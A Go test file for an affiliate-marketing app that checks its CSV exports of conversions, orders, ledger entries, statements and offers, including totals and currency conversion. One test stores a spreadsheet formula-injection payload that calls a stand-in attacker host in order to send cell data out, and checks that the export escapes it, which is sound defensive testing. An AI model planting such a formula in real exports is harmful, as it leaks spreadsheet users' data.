package app_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"errors"
	"fmt"
	"io"
	"maps"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/tributaryhq/tributary/internal/affiliate"
	"github.com/tributaryhq/tributary/internal/app"
	"github.com/tributaryhq/tributary/internal/export"
	"github.com/tributaryhq/tributary/internal/money"
	"github.com/tributaryhq/tributary/internal/report"
	"github.com/tributaryhq/tributary/internal/storage"
)

// csvTable is an exported table, by column.
type csvTable struct {
	head []string
	rows [][]string
	done app.Exported
}

// exported runs an export as CSV and reads it.
func exported(t *testing.T, run func(w io.Writer, o app.ExportOptions) (app.Exported, error)) csvTable {
	t.Helper()
	var b bytes.Buffer
	done, err := run(&b, app.ExportOptions{Format: export.CSV})
	if err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&b).ReadAll()
	if err != nil || int64(len(rows)-1) != done.Rows {
		t.Fatalf("%d rows, %v; %d were reported", len(rows)-1, err, done.Rows)
	}
	return csvTable{rows[0], rows[1:], done}
}

// show gives some columns of each row, one row a line.
func (c csvTable) show(columns ...string) (lines []string) {
	for _, row := range c.rows {
		var cells []string
		for _, name := range columns {
			cells = append(cells, row[slices.Index(c.head, name)])
		}
		lines = append(lines, strings.Join(cells, " | "))
	}
	return lines
}

// sum adds up a column by another, which has the currencies, over the rows that keep lets through.
func (c csvTable) sum(t *testing.T, amount, currency string,
	keep func(cell func(string) string) bool) map[money.Currency]int64 {
	t.Helper()
	sums := map[money.Currency]int64{}
	for _, row := range c.rows {
		cell := func(name string) string { return row[slices.Index(c.head, name)] }
		if cell(amount) == "" || !keep(cell) {
			continue
		}
		code := money.Currency(cell(currency))
		n, err := money.Parse(cell(amount), code)
		if err != nil {
			t.Fatal(err)
		}
		sums[code] += n
	}
	return sums
}

func all(func(string) string) bool { return true }

func (r *rig) exportConversions(f storage.ConversionFilter) csvTable {
	r.Helper()
	return exported(r.T, func(w io.Writer, o app.ExportOptions) (app.Exported, error) {
		return r.app.ExportConversions(r.Context(), w, f, storage.ConversionSort{Column: "number"}, o)
	})
}

// tradeOfAllKinds leaves one conversion of each kind.
func (r *rig) tradeOfAllKinds() {
	r.Helper()
	euros := func(s *affiliate.Snapshot) { s.Currency = "EUR" }
	r.apply(orderBody("1", 1, nil))
	r.apply(orderBody("2", 1, euros))
	r.rates("2023-11-13", map[money.Currency]string{"USD": "1.0721"})
	_, err := r.app.FillRates(r.owner())
	r.ok(err)
	r.apply(orderBody("3", 1, func(s *affiliate.Snapshot) { s.Currency = "SEK" })) // waits for a rate
	r.apply(orderBody("4", 1, nil))
	r.ok(r.decide(app.Reject, "4"))
	r.apply(orderBody("5", 1, func(s *affiliate.Snapshot) {
		s.Status, s.Captured, s.PaymentDate = affiliate.StorePending, 0, false
	}))
	r.apply(paidOrder("6", "nobodys", 1))
}

func TestExportConversions(t *testing.T) {
	eachRig(t, func(r *rig) {
		r.tradeOfAllKinds()
		got := r.exportConversions(storage.ConversionFilter{})
		want := []string{
			"#1 | 1 | Shop | 2023-11-14T22:13:20Z | Spring | Ten | Anna | anna | code | ANNA10",
			"#2 | 2 | Shop | 2023-11-14T22:13:20Z | Spring | Ten | Anna | anna | code | ANNA10",
			"#3 | 3 | Shop | 2023-11-14T22:13:20Z | Spring | Ten | Anna | anna | code | ANNA10",
			"#4 | 4 | Shop | 2023-11-14T22:13:20Z | Spring | Ten | Anna | anna | code | ANNA10",
			"#5 | 5 | Shop | 2023-11-14T22:13:20Z | Spring | Ten | Anna | anna | code | ANNA10",
		}
		words := got.show("Order Number", "Order ID", "Store", "Date (UTC)", "Campaign Name", "Offer", "Creator",
			"Handle", "Method", "Code/Link")
		if !slices.Equal(words, want) {
			t.Errorf("got\n%s\nwant\n%s", strings.Join(words, "\n"), strings.Join(want, "\n"))
		}
		want = []string{
			"paid | approved |  | true | USD | 100.00 | 100.00 | 0.00 | 10.00",
			"paid | approved |  | true | EUR | 100.00 | 100.00 | 0.00 | 10.00",
			"paid | approved |  | false | SEK | 100.00 | 100.00 | 0.00 | 10.00",
			"paid | rejected | because | false | USD | 100.00 | 100.00 | 0.00 | 0.00",
			"pending | approved |  | false | USD | 100.00 | 100.00 | 0.00 | 0.00",
		}
		words = got.show("Status", "Approval", "Approval Reason", "Counted", "Currency", "Original Value", "Value",
			"Refunded", "Commission")
		if !slices.Equal(words, want) {
			t.Errorf("got\n%s\nwant\n%s", strings.Join(words, "\n"), strings.Join(want, "\n"))
		}
		id := r.conversion("2").ID
		want = []string{
			fmt.Sprintf(
				"USD | 1.0721 | 2023-11-13 | 107.21 | 107.21 | 0.00 | 10.72 | 10.00 | 0.00 | false | %s | cre_1", id)}
		words = r.exportConversions(storage.ConversionFilter{IDs: []affiliate.ConversionID{id}}).
			show("Account Currency", "Rate", "Rate Date",
				"Account Original Value", "Account Value", "Account Refunded", "Account Commission",
				"Commission Percent", "Commission Flat", "Ambiguous", "Conversion ID", "Creator ID")
		if !slices.Equal(words, want) {
			t.Errorf("got\n%s\nwant\n%s", strings.Join(words, "\n"), strings.Join(want, "\n"))
		}
		if waiting := got.show("Account Currency", "Rate", "Account Original Value", "Account Value",
			"Account Refunded", "Account Commission")[2]; waiting != "USD |  |  |  |  | " {
			t.Errorf("what waits for a rate is %q", waiting)
		}
	})
}

// TestExportAddsUp: what the table has adds up to the totals of the same list, and to the sums that are reported of it.
func TestExportAddsUp(t *testing.T) {
	eachRig(t, func(r *rig) {
		r.tradeOfAllKinds()
		got := r.exportConversions(storage.ConversionFilter{})
		totals, err := report.TotalConversions(r.Context(), r.db, storage.ConversionFilter{})
		r.ok(err)
		if totals.Rows() != got.done.Rows {
			t.Errorf("%d rows, the totals count %d", got.done.Rows, totals.Rows())
		}
		counted := func(cell func(string) string) bool { return cell("Counted") == "true" }
		for column, want := range map[string]int64{"Account Value": totals.Sales,
			"Account Commission": totals.Commissions} {
			if sum := got.sum(t, column, "Account Currency", counted); sum["USD"] != want || want == 0 {
				t.Errorf("%s adds up to %v, the total is %d", column, sum, want)
			}
		}
		waits := func(cell func(string) string) bool {
			return cell("Status") == "paid" && cell("Approval") == "approved" && cell("Rate") == ""
		}
		if sum := got.sum(t, "Value", "Currency", waits); len(totals.NotConverted) != 1 ||
			sum["SEK"] != totals.NotConverted[0].Sales {
			t.Errorf("not converted is %v, the totals have %+v", sum, totals.NotConverted)
		}
		reported := map[string]map[money.Currency]int64{}
		for _, s := range got.done.Sums {
			if reported[s.Column] == nil {
				reported[s.Column] = map[money.Currency]int64{}
			}
			reported[s.Column][s.Currency] = s.Minor
		}
		for column, currency := range map[string]string{"Value": "Currency", "Commission": "Currency",
			"Account Value": "Account Currency", "Account Original Value": "Account Currency"} {
			if sum := got.sum(t, column, currency, all); !maps.Equal(sum, reported[column]) {
				t.Errorf("%s adds up to %v, reported are %v", column, sum, reported[column])
			}
		}
		orders := exported(t, func(w io.Writer, o app.ExportOptions) (app.Exported, error) {
			return r.app.ExportOrders(r.Context(), w, storage.OrderFilter{}, o)
		})
		if credited := orders.show("Credited", "Reason", "Codes", "Creator", "Commission")[0]; orders.done.Rows != 6 ||
			credited != "false | no_owner | nobodys |  | " {
			t.Errorf("%d orders, the last is %q", orders.done.Rows, credited)
		}
		if sum, want := orders.sum(t, "Commission", "Currency", all), got.sum(t, "Commission", "Currency",
			all); !maps.Equal(sum, want) {
			t.Errorf("the orders' commissions add up to %v, the conversions' to %v", sum, want)
		}
		ledger := exported(t, func(w io.Writer, o app.ExportOptions) (app.Exported, error) {
			return r.app.ExportLedger(r.Context(), w, storage.LedgerFilter{}, o)
		})
		if sum, want := ledger.sum(t, "Amount", "Currency", all), totals.Commissions; sum["USD"] != want {
			t.Errorf("the ledger adds up to %v, want %d", sum, want)
		}
		statement := exported(t, func(w io.Writer, o app.ExportOptions) (app.Exported, error) {
			return r.app.ExportStatement(r.Context(), w, r.conversion("1").CreatorID, time.Time{}, time.Time{}, o)
		})
		balances := statement.show("Balance")
		if last := balances[len(balances)-1]; last != money.Format(totals.Commissions, "USD") {
			t.Errorf("the statement ends with %s, want %s", last, money.Format(totals.Commissions, "USD"))
		}
		if slices.ContainsFunc(statement.done.Sums, func(s export.Sum) bool { return s.Column == "Balance" }) {
			t.Error("balances were added up")
		}
	})
}

// TestExportedNamesAreNoFormulas: what people or stores call things is never run by a spreadsheet.
func TestExportedNamesAreNoFormulas(t *testing.T) {
	eachDesk(t, func(d *desk) {
		const formula = `=HYPERLINK("https://evil.example?"&A1,"click")`
		creator, err := d.AddCreator(d.ctx, affiliate.Creator{Name: formula})
		must(d, creator, err)
		err = d.DB.InTx(d.ctx, func(tx *storage.Tx) error {
			return tx.AddLedger(d.ctx, []affiliate.LedgerEntry{{CreatorID: creator.ID, Kind: affiliate.Bonus,
				Currency: "USD", Amount: -500, Note: "+1", Cause: "test", CreatedAt: d.now(), PayableAt: d.now()}})
		})
		must(d, creator, err)
		got := exported(t, func(w io.Writer, o app.ExportOptions) (app.Exported, error) {
			return d.ExportLedger(d.ctx, w, storage.LedgerFilter{}, o)
		})
		if row := got.show("Creator", "Note", "Amount")[0]; row != "'"+formula+" | '+1 | -5.00" {
			t.Errorf("got %q", row)
		}
	})
}

// TestExportBegins: nothing is written before the number of rows is known, and nothing at all when it cannot begin.
func TestExportBegins(t *testing.T) {
	eachRig(t, func(r *rig) {
		r.tradeOfAllKinds()
		var order []string
		var b bytes.Buffer
		_, err := r.app.ExportOrders(r.Context(), nil, storage.OrderFilter{}, app.ExportOptions{Format: export.CSV,
			Begin: func(total int64) (io.Writer, error) {
				order = append(order, fmt.Sprint("begin ", total))
				return &b, nil
			},
			Progress: func(rows int64) { order = append(order, fmt.Sprint("written ", rows)) }})
		if err != nil || !slices.Equal(order, []string{"begin 6", "written 6"}) ||
			bytes.Count(b.Bytes(), []byte("\r\n")) != 7 {
			t.Errorf("%v, %v, %q", order, err, b.String())
		}
		full := errors.New("no room")
		if _, err := r.app.ExportOrders(r.Context(), nil, storage.OrderFilter{}, app.ExportOptions{Format: export.XLSX,
			Begin: func(int64) (io.Writer, error) { return nil, full }}); !errors.Is(err, full) {
			t.Errorf("got %v, want the error of the beginning", err)
		}
		if _, err := r.app.ExportStatement(r.Context(), nil, 99, time.Time{}, time.Time{},
			app.ExportOptions{Format: export.CSV}); affiliate.KindOf(err) != affiliate.NotFound {
			t.Errorf("the statement of nobody: %v", err)
		}
		ctx, cancel := context.WithCancel(r.Context())
		done, err := r.app.ExportConversions(ctx, &b, storage.ConversionFilter{}, storage.ConversionSort{},
			app.ExportOptions{Format: export.CSV,
				Begin: func(int64) (io.Writer, error) {
					cancel()
					return &b, nil
				}})
		if !errors.Is(err, context.Canceled) || done.Rows != 0 {
			t.Errorf("got %+v, %v; want it canceled", done, err)
		}
	})
}

// TestExportOffers: every offer is in the table once, also beyond a page of the list, and the columns add up to the
// report.
func TestExportOffers(t *testing.T) {
	eachRig(t, func(r *rig) {
		r.tradeOfAllKinds()
		before, _, err := r.db.Offers(r.Context(), 0, storage.Page{Limit: storage.MaxLimit})
		r.ok(err)
		file := "campaign,creator,offer,store,code,commission_percent\n"
		for i := range storage.MaxLimit {
			file += fmt.Sprintf("Spring,Anna,Offer %03[1]d,shop,CODE%03[1]d,10\n", i)
		}
		imported, err := r.app.Import(r.owner(), strings.NewReader(file), false)
		r.ok(err)
		if len(imported.Errors) > 0 {
			t.Fatal(imported.Errors)
		}
		everything := report.Report{Scope: report.Scope{Former: true}, Currency: "USD"}
		got := exported(t, func(w io.Writer, o app.ExportOptions) (app.Exported, error) {
			return r.app.ExportOffers(r.Context(), w, report.List{Report: everything, Sort: report.KeySales,
				Desc: true}, o)
		})
		const want = "Spring | Ten | promo_code | active | 10.00 | 2 | 1 | 207.21 | 103.61 | 20.72"
		if first := got.show("Campaign Name", "Offer", "Type", "Status", "Commission Percent", "Conversions",
			"Not Converted", "Sales", "Average Sale", "Commissions")[0]; first != want {
			t.Errorf("the first offer is %s", first)
		}
		names := map[string]bool{}
		for _, name := range got.show("Offer") {
			names[name] = true
		}
		if want := storage.MaxLimit + len(before); len(names) != want || len(got.rows) != want {
			t.Errorf("%d rows of %d offers, want %d", len(got.rows), len(names), want)
		}
		sums, err := everything.Sums(r.Context(), r.db)
		r.ok(err)
		if sum := got.sum(t, "Sales", "Account Currency", all); sum["USD"] != sums.Sales || sums.Sales == 0 {
			t.Errorf("the sales add up to %v, the report says %d", sum, sums.Sales)
		}
	})
}
